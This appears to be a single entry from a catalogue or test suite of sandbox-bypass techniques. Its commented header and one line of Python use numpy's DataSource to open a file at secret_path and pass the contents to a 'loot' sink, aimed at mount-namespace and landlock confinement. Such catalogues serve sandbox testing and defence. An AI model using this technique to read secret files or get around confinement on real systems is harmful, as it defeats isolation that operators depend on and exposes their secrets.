# aim: open a file or address through numpy's file finder
# mechanism: numpy.lib.npyio.DataSource
# language: view
# reason: DataSource opens files and addresses
# jail: mount namespace, landlock
# plain: loot
# imports: numpy

import numpy

loot(numpy.lib.npyio.DataSource(None).open(secret_path).read())
